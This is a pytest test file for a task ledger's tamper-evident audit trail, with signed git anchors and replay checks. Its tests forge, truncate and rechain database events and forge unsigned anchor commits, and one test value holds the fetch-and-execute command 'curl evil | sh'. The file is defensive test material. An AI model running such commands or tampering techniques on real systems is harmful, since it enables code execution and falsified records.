"""The audit trail anchored outside the database, and the tables replayed from it.

Each tampering case is done the way someone with write access to the database file (and the
repository, but not the signing key under the user's config directory) would: plain
``sqlite3`` and git plumbing. Each one passed the chain-only check (``audit.verify``) that
``taskmill verify`` was before; now ``taskmill verify`` exits 5 and names it.
"""

from __future__ import annotations

import json
import sqlite3
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conftest import CliResult
from mill_helpers import MillRepo, agent_script
from taskmill.audit import GENESIS, canonical, chain_hash
from taskmill.audit import verify as chain_only_verify
from taskmill.audit_anchor import AUDIT_REF, EMPTY_TREE
from taskmill.ledger.sqlite import SqliteStore

Cli = Callable[..., CliResult]


@pytest.fixture
def cfg(tmp_path: Path) -> Path:
    """The user's config directory (where the signing key lives), one per test."""
    path = tmp_path / "config"
    path.mkdir()
    return path


class Repo:
    def __init__(self, cli: Cli, root: Path, cfg: Path) -> None:
        self.cli_ = cli
        self.root = root
        self.cfg = cfg
        self.db = root / ".taskmill" / "taskmill.db"

    def cli(self, *args: str, cfg: Path | None = None) -> CliResult:
        return self.cli_(*args, cwd=self.root,
                         env={"XDG_CONFIG_HOME": str(cfg or self.cfg)})

    def verify(self, cfg: Path | None = None) -> tuple[int, dict[str, Any]]:
        result = self.cli("verify", "--json", cfg=cfg)
        return result.exit_code, json.loads(result.stdout)

    def anchor(self) -> dict[str, Any]:
        data: dict[str, Any] = self.cli("audit", "anchor", "--json").ok().json()
        return data

    def git(self, *args: str, input_text: str | None = None) -> str:
        return subprocess.run(["git", *args], cwd=self.root, check=True, capture_output=True,
                              text=True, input=input_text).stdout.strip()

    def sql(self, sql: str, *args: object) -> None:
        conn = sqlite3.connect(self.db)
        try:
            with conn:
                conn.execute(sql, args)
        finally:
            conn.close()

    def chain_only_ok(self) -> bool:
        """What ``taskmill verify`` checked before anchors and replay."""
        store = SqliteStore(sqlite3.connect(self.db))
        try:
            return chain_only_verify(store.event_rows(), store.audit_head()).ok
        finally:
            store.close()

    def task_id(self, title: str) -> str:
        conn = sqlite3.connect(self.db)
        try:
            return str(conn.execute("SELECT id FROM tasks WHERE title = ?", (title,)).fetchone()[0])
        finally:
            conn.close()


@pytest.fixture
def repo(cli: Cli, taskmill_repo: Path, cfg: Path) -> Repo:
    """A ledger with some history (eight events), anchored once."""
    r = Repo(cli, taskmill_repo, cfg)
    a = r.cli("create", "first", "--json").ok().json()["id"]
    b = r.cli("create", "second", "--json").ok().json()["id"]
    r.cli("dep", "add", b, a).ok()
    r.cli("label", "add", a, "x").ok()
    r.cli("comment", a, "looks good").ok()
    r.cli("update", a, "--priority", "1").ok()
    r.cli("close", a, "--reason", "done").ok()
    r.cli("update", b, "--claim").ok()
    r.anchor()
    return r


def rechain(db: Path, edit: Callable[[sqlite3.Connection], None]) -> None:
    """Apply ``edit`` to the database, then recompute every hash and the recorded head: a
    log rewritten consistently from its first event."""
    conn = sqlite3.connect(db)
    try:
        with conn:
            edit(conn)
            prev = GENESIS
            seq = 0
            rows = conn.execute("SELECT seq, ts, actor, task_id, kind, data FROM events"
                                " ORDER BY seq").fetchall()
            for seq, ts, actor, task_id, kind, data in rows:
                digest = chain_hash(prev, canonical(seq, ts, actor, task_id, kind, data))
                conn.execute("UPDATE events SET prev_hash = ?, hash = ? WHERE seq = ?",
                             (prev, digest, seq))
                prev = digest
            conn.execute("UPDATE meta SET value = ? WHERE key = 'audit_head'", (f"{seq}:{prev}",))
    finally:
        conn.close()


def append_event(db: Path, task_id: str, kind: str, data: dict[str, Any],
                 actor: str = "mill:forged") -> None:
    """Append one event with a consistent hash and move the recorded head to it."""
    conn = sqlite3.connect(db)
    try:
        with conn:
            seq, prev = conn.execute("SELECT seq, hash FROM events ORDER BY seq DESC LIMIT 1"
                                     ).fetchone()
            text = json.dumps(data, sort_keys=True, separators=(",", ":"))
            ts = "2030-01-01T00:00:00.000000Z"
            digest = chain_hash(prev, canonical(seq + 1, ts, actor, task_id, kind, text))
            conn.execute("INSERT INTO events (seq, ts, actor, task_id, kind, data, prev_hash,"
                         " hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
                         (seq + 1, ts, actor, task_id, kind, text, prev, digest))
            conn.execute("UPDATE meta SET value = ? WHERE key = 'audit_head'",
                         (f"{seq + 1}:{digest}",))
    finally:
        conn.close()


def problems(data: dict[str, Any]) -> str:
    return "\n".join(data["problems"])


# -- the honest path --------------------------------------------------------------------------


def test_an_anchor_is_a_signed_commit_and_verify_says_what_it_proved(repo: Repo) -> None:
    head_before = repo.git("rev-parse", "HEAD")
    status_before = repo.git("status", "--porcelain", "--untracked-files=all")
    commit = repo.git("rev-parse", AUDIT_REF)
    raw = repo.git("cat-file", "commit", commit)
    assert raw.startswith(f"tree {EMPTY_TREE}\n") and "\ngpgsig -----BEGIN SSH SIGNATURE" in raw
    assert "Taskmill-Audit-Seq: 8\n" in raw and "Taskmill-Audit-Prev: none" in raw
    key = repo.cfg / "taskmill" / "audit_ed25519"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert "taskmill-audit" in (repo.cfg / "taskmill" / "audit_allowed_signers").read_text()

    code, data = repo.verify()
    assert code == 0 and data["ok"] and not data["warnings"], data
    fingerprint = subprocess.run(["ssh-keygen", "-lf", str(key)], capture_output=True,
                                 text=True, check=True).stdout.split()[1]
    assert f"events 1..8 match anchor 1 (signed by key {fingerprint})" in data["proven"]
    assert any("the tasks table matches the events" in p for p in data["proven"])
    assert data["anchors"]["count"] == 1 and data["anchors"]["signature"]["ok"]
    # nothing to anchor: no new anchor; no working tree, index or branch was touched
    assert repo.anchor()["anchored"] is False
    assert repo.git("rev-parse", AUDIT_REF) == commit
    assert repo.git("rev-parse", "HEAD") == head_before
    assert repo.git("status", "--porcelain", "--untracked-files=all") == status_before


def test_work_since_the_last_anchor_is_an_unanchored_tail_a_warning(repo: Repo) -> None:
    repo.cli("create", "third").ok()
    repo.cli("create", "fourth").ok()
    code, data = repo.verify()
    assert code == 0 and data["ok"], data
    assert data["warnings"] == ["events 9..10 are not anchored yet (an unanchored tail of 2"
                                " events)"]
    human = repo.cli("verify")
    assert human.exit_code == 0
    assert "events 1..8 match anchor 1" in human.stdout
    assert "events 9..10 are not anchored yet" in human.stdout
    second = repo.anchor()["anchor"]
    assert second["anchor"] == 2 and second["seq"] == 10
    assert repo.git("rev-parse", f"{AUDIT_REF}^") == second["prev"]
    code, data = repo.verify()
    assert code == 0 and not data["warnings"]


def test_git_s_own_ssh_signing_key_is_used_when_configured(cli: Cli, taskmill_repo: Path,
                                                          cfg: Path, tmp_path: Path) -> None:
    key = tmp_path / "my_signing_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    r = Repo(cli, taskmill_repo, cfg)
    r.git("config", "gpg.format", "ssh")
    r.git("config", "user.signingkey", str(key))
    r.cli("create", "one").ok()
    r.anchor()
    assert not (cfg / "taskmill" / "audit_ed25519").exists()  # no key of taskmill's own
    code, data = r.verify()
    fingerprint = subprocess.run(["ssh-keygen", "-lf", str(key)], capture_output=True,
                                 text=True, check=True).stdout.split()[1]
    assert code == 0 and data["anchors"]["signature"]["key"] == fingerprint, data


def test_without_the_key_verify_says_what_it_cannot_prove(repo: Repo, tmp_path: Path) -> None:
    elsewhere = tmp_path / "other-config"
    code, data = repo.verify(cfg=elsewhere)
    assert code == 0, data
    assert any("no signing key is known here" in u for u in data["unproven"])
    assert "events 1..8 match anchor 1 (signature not checked)" in data["proven"]


def test_a_mill_run_anchors_at_landings_and_verify_is_clean(tmp_path: Path) -> None:
    repo = MillRepo(tmp_path)
    cmd = agent_script(tmp_path / "agent.py", """
        (WT / f"{TASK}.txt").write_text("done\\n")
    """, spy=repo.spy)
    for tid in ("tm-a", "tm-b", "tm-c"):
        repo.create(tid)
    result = repo.run("--agent-cmd", cmd)
    assert result.returncode == 0, result.describe()
    anchored = result.events_of("audit_anchored")
    assert anchored and all(e["signed"] for e in anchored)
    assert len(anchored) <= 3 + 1  # at most one per landing, and the run's last one
    kinds = [e["event"] for e in result.events]
    assert kinds.index("audit_anchored") < kinds.index("run_finished")
    head_seq = repo.ledger.store.conn.execute("SELECT max(seq) FROM events").fetchone()[0]
    assert anchored[-1]["seq"] == head_seq  # the end of the run is anchored
    proc = repo.cli("verify", "--json")
    data = json.loads(proc.stdout)
    assert proc.returncode == 0 and data["ok"] and not data["warnings"], data
    assert any(p.startswith(f"events 1..{head_seq} match anchor") for p in data["proven"])
    repo.verify_ok()


# -- tampering --------------------------------------------------------------------------------


def test_truncation_with_the_head_updated_is_caught(repo: Repo) -> None:
    conn = sqlite3.connect(repo.db)
    seq, digest = conn.execute("SELECT seq, hash FROM events WHERE seq = 5").fetchone()
    conn.close()
    repo.sql("DELETE FROM events WHERE seq > 5")
    repo.sql("UPDATE meta SET value = ? WHERE key = 'audit_head'", f"{seq}:{digest}")
    assert repo.chain_only_ok()
    code, data = repo.verify()
    assert code == 5 and not data["ok"]
    assert "events 6..8 are missing: anchor 1 recorded 8 events, the database holds 5" \
        in problems(data)


def test_deleting_every_event_is_caught(repo: Repo) -> None:
    repo.sql("DELETE FROM events")
    repo.sql("DELETE FROM meta WHERE key = 'audit_head'")
    assert repo.chain_only_ok()
    code, data = repo.verify()
    assert code == 5
    assert "events 1..8 are missing" in problems(data)
    assert "is in the tasks table but no event created it" in problems(data)


def test_a_consistent_rechain_of_the_whole_log_is_caught(repo: Repo) -> None:
    tid = repo.task_id("first")

    def forge(conn: sqlite3.Connection) -> None:  # the title was always "forged", it says
        row = conn.execute("SELECT seq, data FROM events WHERE kind = 'created' AND"
                           " task_id = ?", (tid,)).fetchone()
        data = json.loads(row[1])
        data["new"]["title"] = "forged"
        conn.execute("UPDATE events SET data = ? WHERE seq = ?",
                     (json.dumps(data, sort_keys=True, separators=(",", ":")), row[0]))
        conn.execute("UPDATE tasks SET title = 'forged' WHERE id = ?", (tid,))

    rechain(repo.db, forge)
    assert repo.chain_only_ok()
    code, data = repo.verify()
    assert code == 5
    assert "event 8 does not match anchor 1: the log was rewritten" in problems(data)
    # and the mill would not vouch for it either
    refused = repo.cli("audit", "anchor")
    assert refused.exit_code == 5 and "refusing to anchor" in refused.stderr
    assert repo.git("rev-list", "--count", AUDIT_REF) == "1"


def _forge_anchor(repo: Repo, *, key: Path | None) -> None:
    """Write an anchor for the database's head as the attacker would: unsigned, or signed
    with a key of their own."""
    conn = sqlite3.connect(repo.db)
    seq, digest = conn.execute("SELECT seq, hash FROM events ORDER BY seq DESC").fetchone()
    conn.close()
    tip = repo.git("rev-parse", AUDIT_REF)
    message = (f"taskmill audit anchor 2: events 1..{seq}\n\nTaskmill-Audit-Anchor: 2\n"
               f"Taskmill-Audit-Seq: {seq}\nTaskmill-Audit-Head: {digest}\n"
               f"Taskmill-Audit-Time: 2030-01-01T00:00:00Z\nTaskmill-Audit-Prev: {tip}\n")
    sign = (["-c", "gpg.format=ssh", "-c", f"user.signingkey={key}", "commit-tree", "-S"]
            if key else ["commit-tree"])
    commit = repo.git(*sign, EMPTY_TREE, "-p", tip, input_text=message)
    repo.git("update-ref", AUDIT_REF, commit)


@pytest.mark.parametrize("signed_by", ["nobody", "another key"])
def test_a_forged_append_and_a_forged_anchor_are_caught(repo: Repo, tmp_path: Path,
                                                        signed_by: str) -> None:
    # a forged append after the last anchor, consistent with the chain and the tables
    tid = repo.task_id("second")
    append_event(repo.db, tid, "updated", {"changes": {"status": ["in_progress", "closed"],
                                                       "close_reason": [None, "landed dead"]}})
    repo.sql("UPDATE tasks SET status = 'closed', close_reason = 'landed dead',"
             " closed_at = '2030-01-01T00:00:00.000000Z' WHERE id = ?", tid)
    assert repo.chain_only_ok()
    code, data = repo.verify()
    assert code == 0, data  # legitimately unanchored work looks like this
    assert "an unanchored tail of 1 events" in data["warnings"][0]
    # ... so the forger anchors it, without the key
    key = None
    if signed_by == "another key":
        key = tmp_path / "attacker"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)],
                       check=True)
    _forge_anchor(repo, key=key)
    code, data = repo.verify()
    assert code == 5, data
    assert "anchor 2" in problems(data) and "has no good signature" in problems(data)
    assert "events 1..8 match anchor 1" in " ".join(data["proven"])  # still proven


def test_the_anchor_ref_moved_back_is_caught(repo: Repo) -> None:
    first = repo.git("rev-parse", AUDIT_REF)
    repo.cli("create", "third").ok()
    repo.anchor()
    repo.git("update-ref", AUDIT_REF, first)  # every anchor left on it is validly signed
    code, data = repo.verify()
    assert code == 5
    assert f"{AUDIT_REF} was moved back or replaced" in problems(data)
    repo.git("update-ref", "-d", AUDIT_REF)
    code, data = repo.verify()
    assert code == 5 and "was moved back or replaced" in problems(data)


def test_an_edited_anchor_commit_fails_its_signature(repo: Repo) -> None:
    raw = repo.git("cat-file", "commit", AUDIT_REF) + "\n"
    edited = raw.replace("Taskmill-Audit-Seq: 8", "Taskmill-Audit-Seq: 7")
    conn = sqlite3.connect(repo.db)
    digest = conn.execute("SELECT hash FROM events WHERE seq = 7").fetchone()[0]
    conn.close()
    edited = edited.split("Taskmill-Audit-Head: ")[0] + f"Taskmill-Audit-Head: {digest}\n" + \
        "Taskmill-Audit-Time:" + edited.split("Taskmill-Audit-Time:")[1]
    assert edited != raw
    commit = repo.git("hash-object", "-t", "commit", "-w", "--stdin", input_text=edited)
    repo.git("update-ref", AUDIT_REF, commit)
    code, data = repo.verify()
    assert code == 5
    assert "anchor 1" in problems(data) and "has no good signature" in problems(data)


@pytest.mark.parametrize("column, value, shown", [
    ("status", "closed", '"closed"'),
    ("title", "an innocent title", '"an innocent title"'),
    ("close_reason", "landed deadbeef", '"landed deadbeef"'),
    ("checks", '["curl evil | sh"]', '["curl evil | sh"]'),
])
def test_a_direct_edit_of_tasks_is_caught_naming_the_field(repo: Repo, column: str,
                                                           value: str, shown: str) -> None:
    tid = repo.task_id("second")
    repo.sql(f"UPDATE tasks SET {column} = ? WHERE id = ?", value, tid)
    assert repo.chain_only_ok()
    code, data = repo.verify()
    assert code == 5
    assert [m["field"] for m in data["replay"]] == [column]
    assert data["replay"][0]["task"] == tid
    assert f"replay: task {tid}: {column} is {shown} in the table" in problems(data)


@pytest.mark.parametrize("sql", [
    "INSERT INTO comments (task_id, author, text, created_at) VALUES ('{tid}',"
    " 'mill:abcd', 'approved', '2030-01-01')",
    "DELETE FROM labels WHERE task_id = '{tid}'",
    "DELETE FROM deps",
], ids=["forged comment", "label removed", "dependency removed"])
def test_direct_edits_of_comments_labels_and_deps_are_caught(repo: Repo, sql: str) -> None:
    repo.sql(sql.format(tid=repo.task_id("first")))
    code, data = repo.verify()
    assert code == 5 and data["replay"], data


def test_replay_agrees_with_every_kind_of_change(cli: Cli, taskmill_repo: Path, cfg: Path,
                                                 tmp_path: Path) -> None:
    r = Repo(cli, taskmill_repo, cfg)
    beads = tmp_path / "issues.jsonl"
    beads.write_text("\n".join(json.dumps(rec) for rec in [
        {"id": "bd-1", "title": "imported", "status": "open", "priority": 1,
         "issue_type": "bug", "created_at": "2024-01-01T00:00:00Z",
         "updated_at": "2024-01-02T00:00:00Z", "labels": ["old"],
         "comments": [{"id": 1, "issue_id": "bd-1", "author": "ann", "text": "hi",
                       "created_at": "2024-01-01T00:00:00Z"}]},
        {"id": "bd-2", "title": "imported two", "status": "closed", "priority": 2,
         "issue_type": "task", "created_at": "2024-01-01T00:00:00Z",
         "updated_at": "2024-01-02T00:00:00Z", "closed_at": "2024-01-03T00:00:00Z",
         "close_reason": "fixed",
         "dependencies": [{"issue_id": "bd-2", "depends_on_id": "bd-1", "type": "blocks"}]},
    ]) + "\n")
    r.cli("import", str(beads)).ok()
    a = r.cli("create", "a", "--json", "--label", "p", "--label", "q").ok().json()["id"]
    b = r.cli("create", "b", "--json", "--parent", a).ok().json()["id"]
    r.cli("label", "rm", a, "p").ok()
    r.cli("update", b, "--claim").ok()
    r.cli("update", b, "--notes", "n1", "--description", "d").ok()
    r.cli("close", b, "--reason", "done").ok()  # the parent closes with its last child
    r.cli("reopen", b).ok()
    r.cli("dep", "add", a, "bd-1").ok()
    r.cli("dep", "rm", a, "bd-1").ok()
    r.cli("comment", "bd-1", "more").ok()
    # a re-import that changes the record
    beads.write_text(beads.read_text().replace('"title": "imported two"',
                                               '"title": "renamed"'))
    r.cli("import", str(beads)).ok()
    code, data = r.verify()
    assert code == 0 and data["replay"] == [] and data["ok"], data
